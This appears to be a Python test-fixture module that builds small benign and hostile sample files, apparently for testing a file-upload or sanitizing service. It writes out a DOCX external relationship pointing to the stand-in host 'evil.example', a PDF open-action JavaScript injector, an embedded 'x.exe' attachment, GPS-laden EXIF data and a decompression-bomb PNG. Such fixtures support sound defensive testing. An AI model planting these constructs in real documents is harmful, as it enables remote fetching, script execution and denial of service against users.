"""Small true files of every kind, and the pieces hostile ones are made of."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import xlsxwriter
from PIL import Image
from pypdf import PdfWriter

_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
MAIN = '<Override PartName="/word/document.xml" ContentType="{}"/>'
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)


def picture(name: str = "JPEG", size: tuple[int, int] = (40, 24), **save: Any) -> bytes:
    image = Image.effect_noise(size, 80).convert("RGB")
    out = BytesIO()
    image.save(out, name, **save)
    return out.getvalue()


def exif(orientation: int | None = None) -> Image.Exif:
    """As a phone writes it: make, place and, perhaps, how it was held."""
    data = Image.Exif()
    data[0x010F] = "SecretPhone"
    data.get_ifd(0x8825).update({1: "N", 2: (25.0, 2.0, 15.0), 3: "E", 4: (121.0, 33.0, 49.0)})
    if orientation:
        data[0x0112] = orientation
    return data


def archive(members: dict[str, bytes | str]) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return out.getvalue()


def docx(more: dict[str, bytes | str] | None = None, main: str = _WORD) -> bytes:
    return archive(
        {"[Content_Types].xml": TYPES.format(MAIN.format(main)), "word/document.xml": "<w>陳情書</w>", **(more or {})}
    )


def odf(kind: str = "text", more: dict[str, bytes | str] | None = None) -> bytes:
    return archive(
        {"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<office/>", **(more or {})}
    )


def xlsx() -> bytes:
    out = BytesIO()
    book = xlsxwriter.Workbook(out)
    book.add_worksheet("清冊").write(0, 0, "王小明")
    book.close()
    return out.getvalue()


def pdf(*, script: str = "", password: str = "", attachment: bytes = b"") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if attachment:
        writer.add_attachment("x.exe", attachment)
    if password:
        writer.encrypt(password)
    out = BytesIO()
    writer.write(out)
    action = f"/Catalog /OpenAction <</S /JavaScript /JS ({script})>>".encode()
    return out.getvalue().replace(b"/Catalog", action) if script else out.getvalue()


def pdf_with_object_stream(objects: bytes) -> bytes:
    packed = zlib.compress(objects)
    head = b"%%PDF-1.5\n1 0 obj\n<</Type /ObjStm /Filter /FlateDecode /Length %d>>\nstream\n" % len(packed)
    return head + packed + b"\nendstream\nendobj\ntrailer<</Root 2 0 R>>\n%%EOF\n"


def chunk(name: bytes, body: bytes) -> bytes:
    """One chunk of a PNG file."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def huge_png(width: int, height: int) -> bytes:
    """A picture of a few bytes that wants gigabytes once decoded."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def frames(count: int) -> list[Image.Image]:
    return [Image.effect_noise((40, 24), 40 + n).convert("RGB") for n in range(count)]
